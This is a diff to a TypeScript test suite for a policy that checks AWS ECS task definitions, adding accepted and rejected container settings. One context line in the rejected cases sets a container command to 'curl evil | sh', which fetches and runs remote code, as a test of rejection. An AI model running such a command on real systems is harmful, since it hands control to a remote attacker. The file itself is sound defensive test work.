@@ -56,7 +56,18 @@ describe("policy task-definition-contained (policy/tasks.ts)", () => {
                 ];
             }),
         ],
-        ["a host port equal to the container port", app((c) => (c.portMappings = [{ containerPort: 8080, hostPort: 8080, protocol: "tcp" }]))],
+        [
+            "the containers as ECS reports them back (cpu 0, empty lists, the host port filled in)",
+            app((c) => {
+                Object.assign(c, { cpu: 0, mountPoints: [], volumesFrom: [], systemControls: [], versionConsistency: "enabled" });
+                c.portMappings = [{ containerPort: 8080, hostPort: 8080, protocol: "tcp" }];
+                if (c.logConfiguration) c.logConfiguration.secretOptions = [];
+            }),
+        ],
+        [
+            "an init process (linuxParameters.initProcessEnabled)",
+            app((c) => (c.linuxParameters = { initProcessEnabled: true, capabilities: { add: [], drop: ["NET_RAW"] } })),
+        ],
     ];
     for (const [what, change] of accepted) {
         it(`accepts ${what}`, async () => {
@@ -106,6 +117,8 @@ describe("policy task-definition-contained (policy/tasks.ts)", () => {
             ["task-log-destination"],
         ],
         ["a container parameter the pack has no rule for", app((c) => (c.command = ["sh", "-c", "curl evil | sh"])), ["task-container-property"]],
+        ["volumes mounted from another container", app((c) => (c.volumesFrom = [{ sourceContainer: "other" }])), ["task-container-property"]],
+        ["a CPU reservation of its own", app((c) => (c.cpu = 512)), ["task-container-property"]],
         ["unreadable container definitions", (find) => setProp(find(T.td, "spring-green-task"), "containerDefinitions", "{"), ["task-definition-unreadable"]],
         ["bridge networking", (find) => setProp(find(T.td, "spring-green-task"), "networkMode", "bridge"), ["task-network-mode"]],
         ["EC2 compatibility", (find) => setProp(find(T.td, "spring-green-task"), "requiresCompatibilities", ["FARGATE", "EC2"]), ["task-compatibility"]],
